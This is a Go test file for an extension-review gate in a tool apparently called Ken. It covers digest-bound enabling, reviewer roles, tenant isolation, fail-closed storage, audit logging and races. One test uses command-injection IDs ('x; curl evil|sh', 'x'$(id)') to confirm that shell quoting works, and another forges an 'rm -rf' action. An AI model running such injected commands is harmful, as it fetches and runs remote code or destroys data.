package review_test

import (
	"context"
	"errors"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"ken/capability"
	"ken/internal/govern/audit"
	"ken/internal/govern/review"
	"ken/internal/store"
	"ken/internal/testkit"
	"ken/internal/testkit/storetest"
)

// TestCourse: what a person is told of an extension that nobody has seen, that
// somebody switched off, and that changed, and what to do about it.
func TestCourse(t *testing.T) {
	dir := t.TempDir()
	p := gitPack()
	p.write(t, dir)
	m := manifest(t, dir, capability.TrustUser)
	book, action, d := bookOf(m), m.Actions[0], anyDesk(t)

	st := status(t, d, m)
	const sentence = "extension tools.git is disabled: it has not been reviewed; see what it asks for with ken extension review tools.git, then run ken extension enable tools.git"
	if got := st.Why + "; " + st.Fix; st.State != review.Unreviewed || got != sentence {
		t.Errorf("%s for the reason %q, want %q", st.State, got, sentence)
	}
	wantKind(t, d.Check(ctx, pia.Tenant, book, action), capability.Denied, nil, "has not been reviewed", "ken extension review tools.git")
	if err := d.Check(ctx, pia.Tenant, book, m.Package); err != nil {
		t.Errorf("Check(package) = %v, want none: it runs nothing", err)
	}
	s := enable(t, d, m)
	if twice, err := d.Enable(ctx, m, review.Shown{Digest: m.Digest}, yes("")); err != nil || twice.Version != s.Version || s.By != "pia" {
		t.Errorf("Enable again = %+v, %v, want %+v", twice, err, s)
	}
	disable(t, d, m, yes("too\nloud"))
	wantKind(t, d.Check(ctx, pia.Tenant, book, action), capability.Denied, nil, "pia disabled it at", "too loud")
	enable(t, d, m)

	p.manifest = strings.Replace(p.manifest, "1.2", "1.3", 1)
	p.write(t, dir)
	now := manifest(t, dir, capability.TrustUser)
	wantKind(t, d.Check(ctx, pia.Tenant, bookOf(now), now.Actions[0]), capability.Denied, nil, "differs from the accepted version", "see what changed")
	if err := d.Check(ctx, pia.Tenant, book, action); err != nil {
		t.Errorf("Check of what was accepted = %v", err)
	}
	_, err := d.Enable(ctx, now, status(t, d, m).Shown, yes(""))
	wantKind(t, err, capability.Conflict, review.ErrChanged, "version 1.2 → 1.3")
}

// TestEnableIsBoundToWhatWasShown: neither a forged digest nor a person's word
// meanwhile is passed over.
func TestEnableIsBoundToWhatWasShown(t *testing.T) {
	m := gitManifest(t)
	d := anyDesk(t)
	shown := status(t, d, m).Shown

	forged := *m
	forged.Actions = slices.Clone(m.Actions)
	forged.Actions[0] = twin(t, m.Actions[0])
	forged.Actions[0].Run.Argv = []string{"rm", "-rf"}
	_, err := d.Enable(ctx, &forged, shown, yes(""))
	wantKind(t, err, capability.Conflict, review.ErrChanged)
	_, err = d.Enable(ctx, m, review.Shown{}, yes(""))
	wantKind(t, err, capability.Conflict, review.ErrChanged)

	disable(t, d, m, yes("I do not like it"))
	_, err = d.Enable(ctx, m, shown, yes(""))
	wantKind(t, err, capability.Conflict, review.ErrSaid, "pia turned it off", "I do not like it")
	if st := status(t, d, m); st.State != review.Disabled {
		t.Errorf("state = %s, want disabled", st.State)
	}
}

func TestWhoMaySay(t *testing.T) {
	m := gitManifest(t)
	s := storetest.Open(t, storetest.SQLite(t))
	d := newDesk(t, s, review.Config{Reviewers: []string{"operator"}})
	guest := pia
	guest.Roles = []string{"guest"}
	for name, w := range map[string]review.Word{
		"a model":        {By: pia},
		"nobody":         {Origin: capability.ByPerson},
		"without a role": {By: guest, Origin: capability.ByPerson},
	} {
		_, err := d.Enable(ctx, m, status(t, d, m).Shown, w)
		wantKind(t, err, capability.Denied, nil)
		_, err = d.Disable(ctx, m.Key(), w)
		wantKind(t, err, capability.Denied, nil)
		if list, err := d.List(ctx, pia.Tenant); len(list) != 0 || err != nil {
			t.Errorf("%s: List = %v, %v, want nothing", name, list, err)
		}
	}
	enable(t, d, m)
	_, err := d.Disable(ctx, review.Key{ID: "tools.hg"}, yes(""))
	wantKind(t, err, capability.NotFound, nil)
}

// TestTenants: what one tenant says is nothing to another, and no name can reach
// into another's keys.
func TestTenants(t *testing.T) {
	x, a := base()
	d := anyDesk(t)
	m := made(review.Of(x, []*capability.Capability{a}))
	tenants := []string{"", "a", "a/b", "../a", strings.Repeat("x", 4000)}
	for i, tenant := range tenants {
		by := review.Word{By: capability.Principal{ID: "p", Tenant: tenant}, Origin: capability.ByPerson}
		if _, err := d.Enable(ctx, m, review.Shown{Digest: m.Digest}, by); err != nil {
			t.Fatalf("tenant %d: %v", i, err)
		}
		for j, other := range tenants {
			if got, want := d.Switches(ctx, other).State(m) == review.Enabled, j <= i; got != want {
				t.Errorf("after %d tenants, tenant %d has it on: %v, want %v", i+1, j, got, want)
			}
		}
	}
}

// TestStoreFails: then everything that needs review is off, says so, and nothing
// else is.
func TestStoreFails(t *testing.T) {
	m := gitManifest(t)
	book, action := bookOf(m), m.Actions[0]
	s := storetest.Open(t, storetest.SQLite(t))
	d := newDesk(t, s, review.Config{})
	enable(t, d, m)
	testkit.OK(t, d.Check(ctx, pia.Tenant, book, action))
	ended, cancel := context.WithCancel(ctx)
	cancel()
	if err := d.Check(ended, pia.Tenant, book, action); capability.KindOf(err) != capability.Unavailable || !errors.Is(ended.Err(), context.Canceled) {
		t.Errorf("Check without time = %v, want unavailable", err)
	}
	s.Close()
	wantKind(t, d.Check(ctx, pia.Tenant, book, action), capability.Unavailable, nil, "cannot read whether it was accepted", "the store is closed", "ken doctor")
	on := d.Switches(ctx, pia.Tenant)
	if on.Err() == nil || on.State(m) != review.Unknown {
		t.Errorf("Switches = %v, %v, want unknown", on.State(m), on.Err())
	}
	if why, mend := on.Off(book, action); !strings.Contains(why, "cannot read whether it was accepted") || mend == "" {
		t.Errorf("Off = %q, %q", why, mend)
	}
	other := *action
	other.Origin.Format = "card"
	if why, _ := on.Off(book, &other); why != "" {
		t.Errorf("Off(what needs no review) = %q", why)
	}
	if st, err := d.Status(ctx, pia.Tenant, m); err == nil || st.State != review.Unknown {
		t.Errorf("Status = %+v, %v", st, err)
	}
	_, err := d.Enable(ctx, m, review.Shown{Digest: m.Digest}, yes(""))
	wantKind(t, err, capability.Unavailable, store.ErrClosed)
	_, err = d.Disable(ctx, m.Key(), yes(""))
	wantKind(t, err, capability.Unavailable, store.ErrClosed, "may still be enabled")
	if why, _ := (*review.Switches)(nil).Off(book, action); !strings.Contains(why, "is disabled") {
		t.Errorf("nil Switches: Off = %q, want it off", why)
	}
	if why, _ := on.Off(nil, action); !strings.Contains(why, "is disabled") {
		t.Errorf("nil Book: Off = %q, want it off", why)
	}
	if _, err := review.New(nil, review.Config{}); err == nil {
		t.Error("New without a store gives a desk")
	}
}

// TestDamagedRecord: what cannot be read, or is of a newer Ken, is off until it
// is reviewed again.
func TestDamagedRecord(t *testing.T) {
	m := gitManifest(t)
	book, action := bookOf(m), m.Actions[0]
	for name, change := range map[string]func(string) string{
		"no JSON":       func(string) string { return "}" },
		"newer version": func(s string) string { return strings.Replace(s, `"v":1`, `"v":2`, 1) },
		"unknown field": func(s string) string { return strings.Replace(s, `{`, `{"only":"on sundays",`, 1) },
		"another place": func(s string) string { return strings.Replace(s, `"place":"`, `"place":"/x`, 1) },
		"a tail":        func(s string) string { return s + "{}" },
	} {
		t.Run(name, func(t *testing.T) {
			s := storetest.Open(t, storetest.SQLite(t))
			enable(t, newDesk(t, s, review.Config{}), m)
			var b store.Batch
			for item, err := range s.Scan(ctx, "extension/switch/", store.Range{}) {
				if err != nil {
					t.Fatal(err)
				}
				if b.Put(item.Key, []byte(change(string(item.Value)))); change(string(item.Value)) == string(item.Value) {
					t.Fatal("the record is as it was")
				}
			}
			testkit.Must(s.Apply(ctx, &b))(t)
			d := newDesk(t, s, review.Config{})
			wantKind(t, d.Check(ctx, pia.Tenant, book, action), capability.Denied, nil, "cannot read whether it was accepted", "extension/switch/")
			st, err := d.Status(ctx, pia.Tenant, m)
			if err == nil || st.State != review.Unknown || st.Shown.Version == 0 {
				t.Errorf("Status = %+v, %v, want unknown and the version", st, err)
			}
			if _, err := d.Enable(ctx, m, st.Shown, yes("")); err != nil {
				t.Fatalf("Enable over a damaged record = %v", err)
			}
			if err := d.Check(ctx, pia.Tenant, book, action); err != nil {
				t.Errorf("Check after another review = %v", err)
			}
		})
	}
}

// TestAudit: switching on is recorded before and after, and does not happen
// unrecorded; switching off happens whatever the log does.
func TestAudit(t *testing.T) {
	dir := t.TempDir()
	p := gitPack()
	p.write(t, dir)
	m := manifest(t, dir, capability.TrustUser)
	s := storetest.Open(t, storetest.SQLite(t))
	var broken error
	var log []audit.Record
	d := newDesk(t, s, review.Config{
		Log: func(_ context.Context, r audit.Record) error {
			if broken == nil {
				log = append(log, r)
			}
			return broken
		},
		Now: func() time.Time { return time.Date(2026, 11, 15, 12, 0, 0, 0, time.UTC) },
	})
	broken = errors.New("the disk is full")
	_, err := d.Enable(ctx, m, status(t, d, m).Shown, yes(""))
	wantKind(t, err, capability.Unavailable, broken, "not enabled", "fix the audit log")
	if st := status(t, d, m); st.State != review.Unreviewed {
		t.Errorf("state = %s after an unrecorded Enable, want new", st.State)
	}
	broken = nil
	enable(t, d, m)
	p.usage = "Else.\n"
	p.write(t, dir)
	now := manifest(t, dir, capability.TrustUser)
	broken = errors.New("the disk is full")
	if first, err := d.Notice(ctx, pia.Tenant, now); first || err == nil {
		t.Errorf("Notice with a broken log = %v, %v, want it again later", first, err)
	}
	broken = nil
	for _, want := range []bool{true, false} {
		if first, err := d.Notice(ctx, pia.Tenant, now); first != want || err != nil {
			t.Errorf("Notice = %v, %v, want %v", first, err, want)
		}
	}
	if first, err := d.Notice(ctx, pia.Tenant, m); first || err != nil {
		t.Errorf("Notice of what was accepted = %v, %v", first, err)
	}
	disable(t, d, m, yes("enough"))
	var got []string
	for _, r := range log {
		success := "-"
		if r.Success != nil {
			success = map[bool]string{true: "yes", false: "no"}[*r.Success]
		}
		got = append(got, strings.Join([]string{string(r.Event), r.Event.Level(), r.ExtensionID, r.Action, r.UserID, r.Tenant, string(r.Status), success,
			r.Metadata.Notes["permissions"], r.Metadata.Notes["differences"], r.Metadata.Notes["why"]}, "|"))
	}
	want := []string{
		"extension_changed|WARNING|tools.git|enable|pia|acme|STARTED|-|exec||",
		"extension_changed|WARNING|tools.git|enable|pia|acme|COMPLETED|yes|exec||",
		"extension_changed|WARNING|tools.git|changed||acme|COMPLETED|yes|exec|text changed: usage|",
		"extension_changed|WARNING|tools.git|disable|pia|acme|COMPLETED|yes|||enough",
	}
	if !slices.Equal(got, want) {
		t.Errorf("records:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
	enable(t, d, now)
	broken = errors.New("the disk is full")
	off, err := d.Disable(ctx, m.Key(), yes(""))
	if len(off) != 1 || !errors.Is(err, broken) || !strings.Contains(err.Error(), "disabled, but") {
		t.Errorf("Disable with a broken log = %v, %v, want it off and the error", off, err)
	}
	if st := status(t, d, now); st.State != review.Disabled {
		t.Errorf("state = %s, want disabled", st.State)
	}
}

// TestRaces: of many who enable what they saw, one wins and the others hear so;
// after a Disable has returned no Check passes until the next Enable.
func TestRaces(t *testing.T) {
	m, book, a := small()
	s := storetest.Open(t, storetest.SQLite(t))
	desks := []*review.Desk{newDesk(t, s, review.Config{}), newDesk(t, s, review.Config{}), newDesk(t, s, review.Config{})}
	for round := range 8 {
		shown := status(t, desks[0], m).Shown
		var off atomic.Bool
		var group sync.WaitGroup
		for i, d := range desks {
			group.Go(func() {
				_, err := d.Enable(ctx, m, shown, yes(""))
				if err != nil && !errors.Is(err, review.ErrSaid) {
					t.Errorf("desk %d: Enable = %v", i, err)
				}
			})
			group.Go(func() {
				for range 20 {
					before := off.Load()
					if err := d.Check(ctx, pia.Tenant, book, a); err == nil && before {
						t.Errorf("round %d: desk %d let a call pass after Disable had returned", round, i)
					}
				}
			})
		}
		group.Go(func() {
			if _, err := desks[round%3].Disable(ctx, m.Key(), yes("")); err != nil {
				t.Error(err)
			}
			off.Store(true)
		})
		group.Wait()
		// An Enable with what was shown before the Disable is refused, so it is off
		// for good.
		for i, d := range desks {
			if err := d.Check(ctx, pia.Tenant, book, a); err == nil {
				t.Errorf("round %d: desk %d has it on after Disable", round, i)
			}
		}
		if round%2 == 1 {
			enable(t, desks[1], m)
		}
	}
}

// TestMendIsNoTrap: what people copy from a reason is one command, whatever a
// package calls itself.
func TestMendIsNoTrap(t *testing.T) {
	for id, want := range map[string]string{
		"tools.git":       "see what it asks for with ken extension review tools.git,",
		"x; curl evil|sh": "see what it asks for with ken extension review 'x; curl evil|sh',",
		"x'$(id)":         `see what it asks for with ken extension review 'x'\''$(id)',`,
	} {
		x, a := base()
		x.ID = capability.MakeID(capability.KindExtension, id)
		a.RequiredTools = []string{string(x.ID)}
		m := made(review.Of(x, []*capability.Capability{a}))
		if _, mend := anyDesk(t).Switches(ctx, "").Off(bookOf(m), a); !strings.HasPrefix(mend, want) {
			t.Errorf("Off(%s): fix = %q, want %q", id, mend, want)
		}
	}
}
